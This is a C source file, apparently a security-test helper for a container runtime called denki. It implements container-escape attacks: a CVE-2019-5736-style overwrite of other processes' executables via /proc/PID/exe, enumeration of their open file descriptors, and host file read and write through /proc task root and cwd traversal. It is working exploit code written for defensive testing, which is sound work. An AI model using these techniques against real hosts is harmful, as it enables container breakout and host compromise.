/*
 * An attacker inside a container, for denki's security tests. Built static (it runs in a
 * busybox root). Two attacks from the red-team report (issue 11):
 *
 *   attack exe SECONDS
 *     CVE-2019-5736: hold an O_PATH fd of /proc/PID/exe of every other process that appears,
 *     then keep trying to reopen each for writing (ETXTBSY while it runs) and append to it.
 *     Prints "TARGET <exe>" for each process held and "WROTE <exe>" or "DENIED <exe> <errno>".
 *
 *   attack fds SECONDS
 *     List what every other process holds open (/proc/PID/fd/N links, each once): "FD <link>".
 *     A host file among them could be reopened for writing through the link.
 *
 *   attack root SECONDS HOSTFILE HOSTDIR
 *     Through /proc/PID/task/TID/root and cwd of every other task, try to read HOSTFILE and
 *     create a file in HOSTDIR (host paths). Prints "SAW <n>" (tasks examined) and "READ ..." or
 *     "CREATED ..." for each success.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX 256

struct target {
  int pid;
  int fd;
  int done;
  char exe[256];
};

static struct target targets[MAX];
static int ntargets;

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int seen(int pid) {
  for (int i = 0; i < ntargets; i++)
    if (targets[i].pid == pid) return 1;
  return 0;
}

static void grab_exes(void) {
  DIR *d = opendir("/proc");
  if (!d) return;
  struct dirent *e;
  while ((e = readdir(d)) && ntargets < MAX) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid() || seen(pid)) continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    struct target *t = &targets[ntargets];
    t->pid = pid;
    t->done = 0;
    t->fd = open(path, O_PATH | O_CLOEXEC);
    ssize_t n = readlink(path, t->exe, sizeof t->exe - 1);
    t->exe[n > 0 ? n : 0] = 0;
    ntargets++;
    if (t->fd >= 0) printf("TARGET %s\n", t->exe);
  }
  closedir(d);
}

static void try_writes(void) {
  for (int i = 0; i < ntargets; i++) {
    struct target *t = &targets[i];
    if (t->fd < 0 || t->done) continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", t->fd);
    int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w >= 0) {
      ssize_t n = write(w, "PWNED\n", 6);
      printf(n == 6 ? "WROTE %s\n" : "DENIED %s write-failed\n", t->exe);
      close(w);
      t->done = 1;
    } else if (errno != ETXTBSY) {
      printf("DENIED %s %s\n", t->exe, strerrorname_np(errno));
      t->done = 1;
    }
  }
}

static int attack_exe(double seconds) {
  double end = now() + seconds;
  while (now() < end) {
    grab_exes();
    try_writes();
    usleep(2000);
  }
  for (int i = 0; i < ntargets; i++)
    if (targets[i].fd >= 0 && !targets[i].done) printf("BUSY %s\n", targets[i].exe);
  return 0;
}

static long saw;

static void probe(const char *base, const char *hostfile, const char *hostdir, int pid) {
  char path[512];
  snprintf(path, sizeof path, "%s%s", base, hostfile);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    char buf[128] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    printf("READ %s: %s\n", path, n > 0 ? buf : "");
    close(fd);
  }
  snprintf(path, sizeof path, "%s%s/pwned-%d", base, hostdir, pid);
  fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  if (fd >= 0) {
    printf("CREATED %s\n", path);
    close(fd);
  }
}

static int attack_root(double seconds, const char *hostfile, const char *hostdir) {
  double end = now() + seconds;
  while (now() < end) {
    DIR *d = opendir("/proc");
    if (!d) return 1;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      char tasks[64];
      snprintf(tasks, sizeof tasks, "/proc/%d/task", pid);
      DIR *t = opendir(tasks);
      if (!t) continue;
      struct dirent *te;
      while ((te = readdir(t))) {
        int tid = atoi(te->d_name);
        if (tid <= 0) continue;
        char base[128];
        saw++;
        snprintf(base, sizeof base, "/proc/%d/task/%d/root", pid, tid);
        probe(base, hostfile, hostdir, pid);
        // ".." from a cwd outside our root climbs to the root of the mounts it is on.
        snprintf(base, sizeof base, "/proc/%d/task/%d/cwd/../../../../../../../../..", pid, tid);
        probe(base, hostfile, hostdir, pid);
      }
      closedir(t);
    }
    closedir(d);
  }
  printf("SAW %ld\n", saw);
  return 0;
}

static char seen_links[4096][256];
static int nseen;

static int attack_fds(double seconds) {
  double end = now() + seconds;
  while (now() < end) {
    DIR *d = opendir("/proc");
    if (!d) return 1;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      char dir[64];
      snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
      DIR *f = opendir(dir);
      if (!f) continue;
      struct dirent *fe;
      while ((fe = readdir(f))) {
        if (fe->d_name[0] == '.') continue;
        char path[128], link[256];
        snprintf(path, sizeof path, "%s/%s", dir, fe->d_name);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n <= 0) continue;
        link[n] = 0;
        int known = 0;
        for (int i = 0; i < nseen && !known; i++) known = strcmp(seen_links[i], link) == 0;
        if (!known && nseen < 4096) {
          strcpy(seen_links[nseen++], link);
          printf("FD %s\n", link);
        }
      }
      closedir(f);
    }
    closedir(d);
    usleep(5000);
  }
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "exe") == 0) return attack_exe(atof(argv[2]));
  if (argc == 3 && strcmp(argv[1], "fds") == 0) return attack_fds(atof(argv[2]));
  if (argc == 5 && strcmp(argv[1], "root") == 0) return attack_root(atof(argv[2]), argv[3], argv[4]);
  fprintf(stderr, "usage: attack exe|fds SECONDS | attack root SECONDS HOSTFILE HOSTDIR\n");
  return 2;
}
